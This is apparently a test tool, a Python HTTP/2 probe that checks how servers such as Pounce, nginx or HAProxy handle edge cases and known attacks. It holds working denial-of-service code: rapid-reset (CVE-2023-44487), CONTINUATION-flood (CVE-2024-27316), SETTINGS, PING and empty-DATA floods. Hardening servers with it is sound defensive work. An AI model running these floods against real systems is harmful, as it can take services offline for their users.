#!/usr/bin/env python3
"""h2probe: drives HTTP/2 edge cases and attacks against a server over TLS.

Used by the process tests to check Pounce's HTTP/2 listeners; works against any
HTTP/2 server (it was checked against nginx and HAProxy). Needs the `h2`
package from PyPI (`python3 -m pip install h2`, which brings `hyperframe` and
`hpack` too).

    python3 h2probe.py SCENARIO --port P [--host 127.0.0.1] [--path /]
                       [--count N] [--size BYTES] [--timeout S] [...]

TLS without certificate checks, ALPN ["h2"], SNI "localhost" (--sni). Each run
prints exactly one JSON object on stdout. Exit status: 0 when the scenario ran
(whatever the server did: the caller asserts on the JSON), 2 on bad arguments,
3 when TCP, TLS, ALPN or the HTTP/2 preface/SETTINGS exchange failed, 4 when
the h2 package is missing (in both cases a JSON object with "error" is still
printed).

Scenarios: ok, concurrent-streams, header-list, rapid-reset,
continuation-flood, settings-flood, ping-flood, empty-data-flood,
stalled-body, connect, upload, download, goaway-drain (see `--help`).

Fields present in every report:
  scenario, server_settings (the server's SETTINGS, by name), responses
  (count per :status), rst_streams (RST_STREAM frames from the server, count
  per error code), goaway (bool), goaway_error (the first GOAWAY error code
  other than NO_ERROR, else NO_ERROR), last_stream_id (the lowest, i.e. final,
  last_stream_id announced), goaways (every GOAWAY: error, last_stream_id,
  debug data, seconds since the scenario started, frames_sent when seen),
  closed (the server closed the connection) and close_reason, frames_sent
  (frames the scenario's attack or requests sent), frames_received and
  frames_by_type (every frame from the server, by type), elapsed (seconds
  since the connection was ready; stalled-body: until the server reacted),
  send_error when a write failed or timed out, client_resets when h2 itself
  reset a stream, and "error" when something failed on the client side.
"""

import argparse
import json
import select
import socket
import ssl
import sys
import time
import traceback
from collections import Counter

try:
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions
    from h2.errors import ErrorCodes
    from h2.settings import SettingCodes
    from hpack import NeverIndexedHeaderTuple
    from hyperframe.frame import ContinuationFrame, Frame
except ImportError as missing:  # pragma: no cover - depends on the machine
    print(json.dumps({"error": f"missing Python package ({missing}); run: python3 -m pip install h2"}))
    sys.exit(4)

EXIT_NO_CONNECTION = 3  # argparse exits 2 on bad arguments

DEFAULT_COUNTS = {
    "ok": 10,
    "rapid-reset": 1000,
    "continuation-flood": 10000,
    "settings-flood": 10000,
    "ping-flood": 10000,
    "empty-data-flood": 1000,
    "goaway-drain": 5,
}
DEFAULT_SIZES = {
    "header-list": 128 * 1024,
    "upload": 1024 * 1024,
}
DATA_CHUNK = 16 * 1024  # bytes per DATA frame when uploading
READ_SIZE = 65536
FRAME_TYPES = ("DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY",
               "WINDOW_UPDATE", "CONTINUATION")


def error_name(code):
    """An HTTP/2 error code as its RFC name, or hex when unknown."""
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"0x{int(code):x}"


def setting_name(code):
    try:
        return SettingCodes(code).name
    except ValueError:
        return f"0x{int(code):x}"


def text(value):
    return value.decode("utf-8", "replace") if isinstance(value, bytes) else value


class ConnectFailed(Exception):
    """TCP, TLS, ALPN or HTTP/2 connection setup failed."""


class DrainingStateMachine(h2.connection.H2ConnectionStateMachine):
    """h2's connection state machine, except that a received GOAWAY does not
    close it: the server may still finish the streams up to last_stream_id
    (RFC 9113 §6.8), and h2 would reject their frames. Scenarios open no new
    streams once a GOAWAY was seen (Session.stopped)."""

    _transitions = dict(h2.connection.H2ConnectionStateMachine._transitions)
    for _state in (h2.connection.ConnectionState.IDLE, h2.connection.ConnectionState.CLIENT_OPEN):
        _transitions[(_state, h2.connection.ConnectionInputs.RECV_GOAWAY)] = (None, _state)
    del _state


class StreamState:
    """What the server did with one of our streams."""

    def __init__(self, stream_id, started):
        self.id = stream_id
        self.started = started
        self.status = None
        self.headers = []
        self.informational = []
        self.body_bytes = 0
        self.ended = False
        self.finished_at = None  # time of END_STREAM or RST_STREAM
        self.reset = None  # error code name
        self.reset_by_server = None

    @property
    def finished(self):
        return self.ended or self.reset is not None

    def header_values(self, name):
        return [value for key, value in self.headers if key == name]

    def summary(self, origin):
        out = {"id": self.id, "status": self.status, "body_bytes": self.body_bytes, "ended": self.ended}
        if self.reset is not None:
            out["reset"] = self.reset
            out["reset_by"] = "server" if self.reset_by_server else "client"
        if self.finished_at is not None:
            out["finished_at"] = round(self.finished_at - origin, 4)
        if self.informational:
            out["informational"] = self.informational
        return out


class Session:
    """One TLS connection carrying an h2 client connection, plus a record of
    everything the server sent on it.

    Sending goes through `h2` (`flush()` writes what it queued); `send_raw()`
    writes hand-made frames. Reading (`pump()`, `poll()`) feeds the bytes to
    `h2` and turns its events into the record that `report()` returns.
    """

    def __init__(self, args, strict=True):
        self.args = args
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True,
            header_encoding="utf-8",
            validate_outbound_headers=strict,
            normalize_outbound_headers=strict,
            split_outbound_cookies=False,
            validate_inbound_headers=True,
        ))
        self.conn.state_machine = DrainingStateMachine()
        self.sock = None
        self.start = time.monotonic()
        self.streams = {}
        self.server_settings = {}
        self.settings_frames = 0
        self.settings_acks = 0
        self.ping_acks = 0
        self.pings_received = 0
        self.rst_streams = Counter()
        self.local_resets = Counter()
        self.responses = Counter()
        self.goaways = []
        self.goaway_time = None
        self.closed = False
        self.close_reason = None
        self.send_error = None
        self.errors = []
        self.frames_sent = 0
        self.hold_output = False  # while a header block is open, h2 must not interleave frames
        self._sending = False
        self._inbound = bytearray()
        self.frames_received = 0
        self.frames_by_type = Counter()
        self.bytes_received = 0
        self.read_deadline = None  # end of the --timeout read phase, once started

    # Connection setup

    def connect(self):
        args = self.args
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        try:
            raw = socket.create_connection((args.host, args.port), timeout=args.timeout)
        except OSError as failure:
            raise ConnectFailed(f"cannot connect to {args.host}:{args.port}: {failure}") from failure
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            self.sock = context.wrap_socket(raw, server_hostname=args.sni)
        except (OSError, ssl.SSLError) as failure:
            raw.close()
            raise ConnectFailed(f"TLS handshake failed: {failure}") from failure
        alpn = self.sock.selected_alpn_protocol()
        if alpn != "h2":
            raise ConnectFailed(f"server did not select h2 by ALPN (selected: {alpn})")
        self.conn.initiate_connection()
        if not self.flush():
            raise ConnectFailed(f"could not send the HTTP/2 preface: {self.send_error}")
        # Wait for the server's SETTINGS and, briefly, its ACK of ours, so
        # that the scenarios' ACK counts start clean.
        self.pump(time.monotonic() + args.timeout, until=lambda: self.settings_frames > 0 and self.settings_acks > 0)
        if self.settings_frames == 0:
            why = self.close_reason or (self.errors[-1] if self.errors else "timeout")
            raise ConnectFailed(f"no SETTINGS frame from the server ({why})")
        self.start = time.monotonic()

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass

    # Sending

    def send_raw(self, data, read_between=False):
        """Writes bytes; False (and the reason kept in send_error) when the
        server is gone or stopped reading for longer than --timeout. With
        `read_between`, writes 16 KiB at a time and processes whatever the
        server sent in between, so an early GOAWAY is not lost to a reset."""
        if self.send_error is not None:
            return False
        step = DATA_CHUNK if read_between else max(len(data), 1)
        self._sending = True
        try:
            for offset in range(0, len(data), step):
                self.sock.sendall(data[offset : offset + step])
                if read_between:
                    self.poll()
            return True
        except (socket.timeout, TimeoutError):
            self.send_error = "send timed out (server stopped reading)"
        except (OSError, ssl.SSLError) as failure:
            # Not marked closed yet: a GOAWAY may still wait to be read.
            self.send_error = f"send failed: {failure.__class__.__name__}: {failure}"
        finally:
            self._sending = False
        return False

    def flush(self):
        """Writes whatever h2 has queued (unless output is held, or a write is
        under way: then the next flush sends it)."""
        if self.hold_output or self._sending:
            return self.send_error is None
        data = self.conn.data_to_send()
        return self.send_raw(data) if data else self.send_error is None

    def open_stream(self, headers, end_stream):
        """Sends HEADERS on a new stream through h2; returns its StreamState."""
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream_id, headers, end_stream=end_stream)
        state = StreamState(stream_id, time.monotonic())
        self.streams[stream_id] = state
        return state

    def request_headers(self, method="GET", path=None, extra=()):
        args = self.args
        headers = [
            (":method", method),
            (":scheme", "https"),
            (":authority", args.authority),
            (":path", path or args.path),
            ("user-agent", "h2probe"),
        ]
        if args.cookie:
            headers.append(("cookie", args.cookie))
        for line in args.header:
            name, _, value = line.partition(":")
            headers.append((name.strip().lower(), value.strip()))
        headers.extend(extra)
        return headers

    @property
    def last_stream_id(self):
        """The final (lowest) last_stream_id of the GOAWAYs, if any."""
        return min((g["last_stream_id"] for g in self.goaways), default=None)

    def settled(self, streams):
        """A condition for pump(): every stream finished, except those a
        GOAWAY said the server will not process."""
        def check():
            last = self.last_stream_id
            return all(s.finished or (last is not None and s.id > last) for s in streams)
        return check

    @property
    def stopped(self):
        """True once the server said GOAWAY or the connection is unusable."""
        return bool(self.goaways) or self.closed or self.send_error is not None

    # Reading

    def _read_once(self, wait):
        """Reads and processes what arrives within `wait` seconds; False when
        nothing arrived or the connection ended."""
        if self.closed:
            return False
        if self.sock.pending() == 0:
            try:
                readable, _, _ = select.select([self.sock], [], [], max(0.0, wait))
            except (OSError, ValueError):
                readable = []
                self._mark_closed("socket error in select")
            if not readable:
                return False
        try:
            data = self.sock.recv(READ_SIZE)
        except (socket.timeout, TimeoutError, ssl.SSLWantReadError):
            return False
        except ssl.SSLZeroReturnError:
            data = b""
        except (OSError, ssl.SSLError) as failure:
            self._mark_closed(f"{failure.__class__.__name__}: {failure}")
            return False
        if not data:
            self._mark_closed("eof")
            return False
        self.bytes_received += len(data)
        self.feed(data)
        return True

    def _mark_closed(self, reason):
        self.closed = True
        self.close_reason = self.close_reason or reason

    def feed(self, data):
        """Hands received bytes to h2 one whole frame at a time, so that the
        events of the frames before one that h2 rejects are not lost."""
        self._inbound += data
        while len(self._inbound) >= 9 and not self.closed:
            end = 9 + int.from_bytes(self._inbound[:3], "big")
            if len(self._inbound) < end:
                break
            frame, self._inbound = bytes(self._inbound[:end]), self._inbound[end:]
            self.frames_received += 1
            kind = frame[3]
            self.frames_by_type[FRAME_TYPES[kind] if kind < len(FRAME_TYPES) else f"0x{kind:x}"] += 1
            try:
                events = self.conn.receive_data(frame)
            except h2.exceptions.ProtocolError as failure:
                self.errors.append(f"h2 rejected a frame from the server: {failure.__class__.__name__}: {failure}")
                self.flush()  # h2 queued its own GOAWAY
                self._mark_closed("client protocol error")
                return
            for event in events:
                self.handle(event)
        self.flush()

    def pump(self, deadline, until=None, idle=None):
        """Reads until `until()` holds, the connection closes or `deadline`
        passes. With `idle`, the deadline moves on whenever bytes arrive."""
        while not self.closed:
            self.flush()
            if until is not None and until():
                return
            now = time.monotonic()
            if now >= deadline:
                return
            if self._read_once(min(0.25, deadline - now)) and idle:
                deadline = max(deadline, time.monotonic() + idle)

    def poll(self):
        """Processes whatever has already arrived, without waiting."""
        while self._read_once(0):
            pass

    def linger(self, grace=1.0):
        """After a GOAWAY, waits a little for the server to close."""
        if self.goaways and not self.closed:
            self.pump(min(self.deadline, time.monotonic() + grace))

    @property
    def deadline(self):
        return self.read_deadline if self.read_deadline is not None else self.start + self.args.timeout

    def start_reading(self):
        """Starts the --timeout read phase after the attack was sent."""
        self.read_deadline = time.monotonic() + self.args.timeout
        return self.read_deadline

    def handle(self, event):
        now = time.monotonic()
        ev = h2.events
        stream = self.streams.get(getattr(event, "stream_id", None))
        if isinstance(event, ev.RemoteSettingsChanged):
            self.settings_frames += 1
            for code, change in event.changed_settings.items():
                self.server_settings[setting_name(code)] = change.new_value
        elif isinstance(event, (ev.ResponseReceived, ev.TrailersReceived, ev.InformationalResponseReceived)):
            headers = [(text(name), text(value)) for name, value in event.headers]
            status = next((value for name, value in headers if name == ":status"), None)
            if stream is not None:
                if isinstance(event, ev.InformationalResponseReceived):
                    stream.informational.append(status)
                else:
                    if isinstance(event, ev.ResponseReceived):
                        stream.status = int(status) if status and status.isdigit() else status
                    stream.headers.extend(headers)
            if isinstance(event, ev.ResponseReceived):
                self.responses[str(status)] += 1
        elif isinstance(event, ev.DataReceived):
            if stream is not None:
                stream.body_bytes += len(event.data)
            try:
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            except h2.exceptions.ProtocolError:
                pass
        elif isinstance(event, ev.StreamEnded):
            if stream is not None:
                stream.ended = True
                stream.finished_at = now
        elif isinstance(event, ev.StreamReset):
            name = error_name(event.error_code)
            (self.rst_streams if event.remote_reset else self.local_resets)[name] += 1
            if stream is not None and stream.reset is None:
                stream.reset = name
                stream.reset_by_server = event.remote_reset
                stream.finished_at = stream.finished_at or now
        elif isinstance(event, ev.ConnectionTerminated):
            self.goaways.append({
                "error": error_name(event.error_code),
                "last_stream_id": event.last_stream_id,
                "debug": text(event.additional_data) if event.additional_data else None,
                "at": round(now - self.start, 4),
                "frames_sent": self.frames_sent,
            })
            self.goaway_time = self.goaway_time or now
        elif isinstance(event, ev.SettingsAcknowledged):
            self.settings_acks += 1
        elif isinstance(event, ev.PingAckReceived):
            self.ping_acks += 1
        elif isinstance(event, ev.PingReceived):
            self.pings_received += 1

    # Results

    def report(self, scenario, **extra):
        goaway_error = None
        if self.goaways:
            errors = [g["error"] for g in self.goaways if g["error"] != "NO_ERROR"]
            goaway_error = errors[0] if errors else "NO_ERROR"
        out = {
            "scenario": scenario,
            "goaway": bool(self.goaways),
            "goaway_error": goaway_error,
            "last_stream_id": self.last_stream_id,
            "goaways": self.goaways,
            "rst_streams": dict(self.rst_streams),
            "responses": dict(self.responses),
            "closed": self.closed,
            "close_reason": self.close_reason,
            "frames_sent": self.frames_sent,
            "frames_received": self.frames_received,
            "frames_by_type": dict(self.frames_by_type),
            "elapsed": round(time.monotonic() - self.start, 4),
            "server_settings": self.server_settings,
        }
        if self.local_resets:
            out["client_resets"] = dict(self.local_resets)
        if self.send_error:
            out["send_error"] = self.send_error
        out.update(extra)
        if self.errors:
            out["error"] = "; ".join(self.errors)
        return out


def body_source(size):
    """Yields `size` bytes in DATA_CHUNK pieces without building the whole body."""
    block = bytes(i % 251 for i in range(DATA_CHUNK))
    left = size
    while left > 0:
        piece = block[: min(left, DATA_CHUNK)]
        left -= len(piece)
        yield piece


# Scenarios: each takes a connected Session and returns its report.

def scenario_ok(session, args):
    """--count GETs on one connection (--sequential: one after another).

    Reports statuses, body lengths, x-backend and set-cookie values."""
    streams = []
    for _ in range(args.count):
        if session.conn.open_outbound_streams >= session.conn.remote_settings.max_concurrent_streams:
            session.flush()  # stay within the server's limit: wait for a stream to finish
            session.pump(time.monotonic() + args.timeout, until=lambda: session.stopped or (
                session.conn.open_outbound_streams < session.conn.remote_settings.max_concurrent_streams))
        if session.stopped:
            break
        state = session.open_stream(session.request_headers("GET"), end_stream=True)
        session.frames_sent += 1
        streams.append(state)
        if args.sequential:
            session.flush()
            session.pump(time.monotonic() + args.timeout, until=session.settled([state]))
    session.flush()
    session.pump(session.start_reading(), until=session.settled(streams))
    session.linger(0.2)
    backends = []
    for s in streams:
        values = s.header_values("x-backend")
        backends.append(values[0] if len(values) == 1 else (values or None))
    return session.report(
        "ok",
        sequential=args.sequential,
        requested=args.count,
        completed=sum(1 for s in streams if s.ended),
        statuses=[s.status for s in streams],
        body_lengths=[s.body_bytes for s in streams],
        backends=backends,
        set_cookies=[v for s in streams for v in s.header_values("set-cookie")],
        streams=[dict(s.summary(session.start), set_cookie=s.header_values("set-cookie")) for s in streams],
    )


def scenario_concurrent_streams(session, args):
    """More unfinished POST streams than SETTINGS_MAX_CONCURRENT_STREAMS."""
    advertised = session.server_settings.get("MAX_CONCURRENT_STREAMS")
    limit = advertised if advertised is not None else 100
    wanted = args.count if args.count else limit + 10
    # h2 refuses to exceed the peer's limit itself: widen its view of it.
    session.conn.remote_settings[SettingCodes.MAX_CONCURRENT_STREAMS] = 2**31 - 1
    session.conn.remote_settings.acknowledge()
    headers = session.request_headers("POST", extra=[("content-type", "application/octet-stream")])
    streams = []
    send_in_batches(session, wanted, lambda _: streams.append(session.open_stream(headers, end_stream=False)),
                    batch=20)
    read_after_attack(session)
    over = streams[limit:]
    return session.report(
        "concurrent-streams",
        advertised_max_concurrent_streams=advertised,
        streams_opened=len(streams),
        refused=sum(1 for s in streams if s.reset == "REFUSED_STREAM"),
        reset_beyond_limit=sum(1 for s in over if s.reset is not None),
        still_open=sum(1 for s in streams if not s.finished),
        answered=sum(1 for s in streams if s.status is not None),
        first_reset_stream=min((s.id for s in streams if s.reset), default=None),
    )


def scenario_header_list(session, args):
    """One request whose header list exceeds --size (RFC 9113 §6.5.2 size)."""
    headers = session.request_headers("GET")
    size = sum(len(n.encode()) + len(v.encode()) + 32 for n, v in headers)
    value_len = 1000
    fields = 0
    while size <= args.size:
        name = f"x-probe-{fields:05d}"
        value = f"{fields:05d}-" + "v" * (value_len - 6)
        headers.append((name, value))
        size += len(name) + len(value) + 32
        fields += 1
    state = session.open_stream(headers, end_stream=True)
    session.frames_sent += 1
    session.send_raw(session.conn.data_to_send(), read_between=True)
    session.pump(session.start_reading(), until=session.settled([state]))
    session.linger()
    return session.report(
        "header-list",
        advertised_max_header_list_size=session.server_settings.get("MAX_HEADER_LIST_SIZE"),
        header_list_size=size,
        extra_fields=fields,
        status=state.status,
        reset=state.reset,
        stream=state.summary(session.start),
    )


def send_in_batches(session, count, queue_one, batch=100, frames_each=1, read_between=True, go_on=None):
    """Writes `count` items, `batch` at a time: `queue_one(i)` either queues
    its frames in h2 or returns hand-made frame bytes. With `read_between`,
    processes what the server sent after each batch, so a GOAWAY is dated
    (its "frames_sent"). Stops early on GOAWAY, close, a failed write, or when
    `go_on()` turns false. Returns how many items were written."""
    done = 0
    while done < count and not session.stopped and (go_on is None or go_on()):
        n = min(batch, count - done)
        raw = bytearray()
        try:
            for i in range(done, done + n):
                raw += queue_one(i) or b""
        except h2.exceptions.StreamClosedError:
            break  # the server closed the stream meanwhile
        if not (session.send_raw(bytes(raw)) if raw else session.flush()):
            break
        done += n
        session.frames_sent += n * frames_each
        if read_between:
            session.poll()
    return done


def read_after_attack(session):
    """The common ending: read until GOAWAY, close or --timeout, then give the
    server a moment to close after its GOAWAY. Returns the first GOAWAY."""
    session.pump(session.start_reading(), until=lambda: bool(session.goaways))
    session.linger()
    return session.goaways[0] if session.goaways else None


def scenario_rapid_reset(session, args):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), --count times."""

    def open_and_cancel(_):
        state = session.open_stream(session.request_headers("GET"), end_stream=True)
        session.conn.reset_stream(state.id, ErrorCodes.CANCEL)

    resets = send_in_batches(session, args.count, open_and_cancel, batch=10, frames_each=2)
    send_time = time.monotonic() - session.start
    first = read_after_attack(session)
    return session.report(
        "rapid-reset",
        resets_sent=resets,
        goaway_after_resets=(first["frames_sent"] // 2) if first else None,
        send_seconds=round(send_time, 4),
    )


def scenario_continuation_flood(session, args):
    """CVE-2024-27316: HEADERS without END_HEADERS, then --count CONTINUATIONs."""
    # h2 builds (and accounts for) the HEADERS frame; END_HEADERS is then
    # cleared. The CONTINUATION fragments (one small never-indexed field
    # each) come from h2's own HPACK encoder, so the server's decoder state
    # stays consistent with ours. h2 must not slip other frames (ACKs) into
    # the open header block: its output is held from then on.
    session.flush()
    state = session.open_stream(session.request_headers("GET"), end_stream=True)
    encoded = session.conn.data_to_send()
    headers_frame, length = Frame.parse_frame_header(memoryview(encoded[:9]))
    headers_frame.parse_body(memoryview(encoded[9 : 9 + length]))
    if len(encoded) != 9 + length:
        session.errors.append("h2 produced more than one frame for the request headers")
    headers_frame.flags.discard("END_HEADERS")
    session.hold_output = True
    sent = 0
    if session.send_raw(headers_frame.serialize()):
        session.frames_sent = 1

        def continuation(i):
            frame = ContinuationFrame(state.id)
            frame.data = session.conn.encoder.encode([NeverIndexedHeaderTuple("x-c", f"{i:x}")])
            return frame.serialize()

        sent = send_in_batches(session, args.count, continuation)
    first = read_after_attack(session)
    return session.report(
        "continuation-flood",
        continuation_sent=sent,
        goaway_after_continuations=(first["frames_sent"] - 1) if first else None,
        status=state.status,
        reset=state.reset,
    )


def scenario_settings_flood(session, args):
    """--count empty SETTINGS frames, ACKs left unread during the flood."""
    # Not reading makes the server queue its ACKs, which is what flood
    # detection that watches the outbound queue (as swift-nio-http2's does) sees.
    acks_before = session.settings_acks
    sent = send_in_batches(session, args.count, lambda _: session.conn.update_settings({}), read_between=False)
    send_time = time.monotonic() - session.start
    read_after_attack(session)
    return session.report("settings-flood", settings_sent=sent, settings_acks=session.settings_acks - acks_before,
                          send_seconds=round(send_time, 4))


def scenario_ping_flood(session, args):
    """--count PING frames, ACKs left unread during the flood."""
    sent = send_in_batches(session, args.count, lambda i: session.conn.ping(i.to_bytes(8, "big")),
                           read_between=False)
    send_time = time.monotonic() - session.start
    read_after_attack(session)
    return session.report("ping-flood", pings_sent=sent, ping_acks=session.ping_acks,
                          send_seconds=round(send_time, 4))


def scenario_empty_data_flood(session, args):
    """A POST stream, then --count empty DATA frames without END_STREAM."""
    headers = session.request_headers("POST", extra=[("content-type", "application/octet-stream")])
    state = session.open_stream(headers, end_stream=False)
    session.frames_sent = 1
    session.flush()
    sent = send_in_batches(session, args.count, lambda _: session.conn.send_data(state.id, b""),
                           batch=50, go_on=lambda: state.reset is None)
    first = read_after_attack(session)
    return session.report(
        "empty-data-flood",
        empty_data_sent=sent,
        goaway_after_frames=(first["frames_sent"] - 1) if first else None,
        status=state.status,
        reset=state.reset,
        reset_at=round(state.finished_at - session.start, 4) if state.reset else None,
    )


def scenario_stalled_body(session, args):
    """POST announcing 100 bytes, sending 10; times the server's reaction."""
    headers = session.request_headers("POST", extra=[
        ("content-type", "application/octet-stream"), ("content-length", "100")])
    state = session.open_stream(headers, end_stream=False)
    session.conn.send_data(state.id, b"0123456789")
    session.frames_sent = 2
    session.flush()
    began = time.monotonic()
    session.pump(session.start_reading(),
                 until=lambda: state.finished or state.status is not None or bool(session.goaways))
    waited = time.monotonic() - began
    if state.reset is not None:
        outcome = "reset"
    elif state.status is not None:
        outcome = "response"
    elif session.goaways:
        outcome = "goaway"
    elif session.closed:
        outcome = "closed"
    else:
        outcome = "timeout"
    # Give a response's END_STREAM or a GOAWAY's close a moment to arrive.
    session.pump(min(session.deadline, time.monotonic() + 0.5), until=lambda: state.finished)
    session.linger(0.5)
    report = session.report("stalled-body", outcome=outcome, status=state.status, reset=state.reset,
                            timed_out=outcome == "timeout")
    report["elapsed"] = round(waited, 4)
    return report


def scenario_idle(session, args):
    """One GET, then nothing: times the server's GOAWAY and close of the idle connection."""
    state = session.open_stream(session.request_headers("GET"), end_stream=True)
    session.frames_sent = 1
    session.flush()
    session.pump(session.start_reading(), until=session.settled([state]))
    idle_from = time.monotonic()
    session.pump(session.start_reading(), until=lambda: session.closed)
    closed_after = time.monotonic() - idle_from if session.closed else None
    goaway_after = session.goaway_time - idle_from if session.goaway_time else None
    report = session.report("idle", status=state.status)
    report["goaway_after"] = round(goaway_after, 4) if goaway_after is not None else None
    report["closed_after"] = round(closed_after, 4) if closed_after is not None else None
    return report


def scenario_connect(session, args):
    """A CONNECT request (no :scheme/:path)."""
    headers = [(":method", "CONNECT"), (":authority", args.connect_authority)]
    state = session.open_stream(headers, end_stream=False)
    session.frames_sent = 1
    session.flush()
    session.pump(session.start_reading(),
                 until=lambda: state.finished or state.status is not None or bool(session.goaways))
    if state.status is not None and not state.finished:
        session.pump(min(session.deadline, time.monotonic() + 0.5), until=lambda: state.finished)
    if not state.finished and not session.stopped:
        session.conn.reset_stream(state.id, ErrorCodes.CANCEL)
        session.flush()
    session.linger(0.3)
    return session.report("connect", status=state.status, reset=state.reset,
                          body_bytes=state.body_bytes)


def scenario_upload(session, args):
    """POST of --size generated bytes; --timeout is an inactivity limit.

    16 KiB DATA frames within the flow control windows; the body is generated
    piece by piece, never held whole."""
    headers = session.request_headers("POST", extra=[
        ("content-type", "application/octet-stream"), ("content-length", str(args.size))])
    state = session.open_stream(headers, end_stream=args.size == 0)
    session.frames_sent = 1
    session.flush()
    sent = 0
    window_stalled = False
    stalled_since = time.monotonic()
    pieces = body_source(args.size)
    pending = next(pieces, None)

    def window():
        try:
            return session.conn.local_flow_control_window(state.id)
        except h2.exceptions.ProtocolError:
            return None  # stream closed under us (e.g. an early response)

    while pending is not None and state.reset is None and not session.stopped:
        available = window()
        if available is None:
            break
        allowed = min(available, session.conn.max_outbound_frame_size)
        if allowed <= 0:
            if time.monotonic() - stalled_since > args.timeout:
                window_stalled = True  # the server stopped granting window
                break
            session.pump(time.monotonic() + 0.25, until=lambda: (window() or 0) > 0 or state.finished)
            continue
        piece, pending = pending[:allowed], pending[allowed:] or next(pieces, None)
        session.conn.send_data(state.id, piece, end_stream=pending is None)
        sent += len(piece)
        session.frames_sent += 1
        if not session.flush():
            break
        stalled_since = time.monotonic()
        session.poll()
    session.pump(session.start_reading(), until=session.settled([state]), idle=args.timeout)
    return session.report("upload", status=state.status, body_bytes=state.body_bytes, bytes_sent=sent,
                          size=args.size, complete=sent == args.size, reset=state.reset, ended=state.ended,
                          window_stalled=window_stalled)


def scenario_download(session, args):
    """GET --path, counting body bytes; --timeout is an inactivity limit."""
    session.conn.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
    session.conn.increment_flow_control_window((1 << 24) - 65535)
    state = session.open_stream(session.request_headers("GET"), end_stream=True)
    session.frames_sent = 1
    session.flush()
    session.pump(session.start_reading(), until=session.settled([state]), idle=args.timeout)
    return session.report("download", status=state.status, bytes=state.body_bytes, ended=state.ended,
                          reset=state.reset,
                          content_length=next(iter(state.header_values("content-length")), None))


def scenario_goaway_drain(session, args):
    """--count slow GETs, then waits for an external GOAWAY and the drain.

    Reports which streams still completed (200) after the GOAWAY."""
    streams = []
    for _ in range(args.count):
        streams.append(session.open_stream(session.request_headers("GET"), end_stream=True))
        session.frames_sent += 1
    session.flush()
    print(f"h2probe: {len(streams)} streams in flight", file=sys.stderr, flush=True)
    if args.ready_file:
        with open(args.ready_file, "w") as marker:
            marker.write(f"{len(streams)}\n")

    drained = session.settled(streams)
    session.pump(session.start_reading(), until=lambda: bool(session.goaways) and drained())
    session.linger()
    in_flight = (sum(1 for s in streams if s.finished_at is None or s.finished_at > session.goaway_time)
                 if session.goaway_time else None)
    after = [s for s in streams if session.goaway_time and s.finished_at and s.finished_at > session.goaway_time]
    return session.report(
        "goaway-drain",
        streams_opened=len(streams),
        in_flight_at_goaway=in_flight,
        completed=sum(1 for s in streams if s.ended and s.status == 200),
        completed_after_goaway=sum(1 for s in after if s.ended and s.status == 200),
        all_completed_200=all(s.ended and s.status == 200 for s in streams),
        goaway_at=round(session.goaway_time - session.start, 4) if session.goaway_time else None,
        streams=[dict(s.summary(session.start),
                      after_goaway=bool(session.goaway_time and s.finished_at and s.finished_at > session.goaway_time))
                 for s in streams],
    )


SCENARIOS = {
    "ok": (scenario_ok, True),
    "concurrent-streams": (scenario_concurrent_streams, True),
    "header-list": (scenario_header_list, False),
    "rapid-reset": (scenario_rapid_reset, True),
    "continuation-flood": (scenario_continuation_flood, True),
    "settings-flood": (scenario_settings_flood, True),
    "ping-flood": (scenario_ping_flood, True),
    "empty-data-flood": (scenario_empty_data_flood, True),
    "stalled-body": (scenario_stalled_body, True),
    "idle": (scenario_idle, True),
    "connect": (scenario_connect, False),
    "upload": (scenario_upload, True),
    "download": (scenario_download, True),
    "goaway-drain": (scenario_goaway_drain, True),
}  # name -> (function, validate/normalize outbound headers in h2)


def parse_args(argv):
    scenario_help = "\n".join(f"  {name:<19} {fn.__doc__.splitlines()[0]}" for name, (fn, _) in SCENARIOS.items())
    parser = argparse.ArgumentParser(
        prog="h2probe.py",
        description="HTTP/2-over-TLS edge-case and attack probe; prints one JSON object.",
        epilog="scenarios:\n" + scenario_help,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("scenario", choices=sorted(SCENARIOS), metavar="SCENARIO")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--sni", default="localhost", help="TLS server name (default localhost)")
    parser.add_argument("--authority", help=":authority of requests (default localhost:PORT)")
    parser.add_argument("--path", default="/")
    parser.add_argument("--count", type=int, help="streams/frames to send (per-scenario default)")
    parser.add_argument("--size", type=int, help="bytes: header-list size to exceed (128 KiB), upload body (1 MiB)")
    parser.add_argument("--timeout", type=float, default=5.0, help="seconds to read after the attack (default 5)")
    parser.add_argument("--cookie", help="'NAME=VALUE' sent as a cookie on every request")
    parser.add_argument("--header", action="append", default=[], metavar="'NAME: VALUE'",
                        help="extra request header (repeatable)")
    parser.add_argument("--sequential", action="store_true", help="ok: one request after another")
    parser.add_argument("--connect-authority", default="example.com:443", help="connect: the :authority")
    parser.add_argument("--ready-file", help="goaway-drain: file written once the streams are in flight")
    args = parser.parse_args(argv)
    if args.count is None:
        args.count = DEFAULT_COUNTS.get(args.scenario, 0)
    if args.size is None:
        args.size = DEFAULT_SIZES.get(args.scenario, 0)
    if args.authority is None:
        args.authority = f"localhost:{args.port}"
    if args.count < 0 or args.size < 0 or args.timeout <= 0 or not 0 < args.port < 65536:
        parser.error("--count and --size must be >= 0, --timeout > 0, --port in 1..65535")
    for line in args.header:
        if ":" not in line.lstrip(":"):
            parser.error(f"--header needs 'NAME: VALUE', got {line!r}")
    return args


def main(argv=None):
    args = parse_args(sys.argv[1:] if argv is None else argv)
    function, strict = SCENARIOS[args.scenario]
    session = Session(args, strict=strict)
    try:
        session.connect()
    except ConnectFailed as failure:
        print(json.dumps({"scenario": args.scenario, "error": str(failure)}))
        session.close()
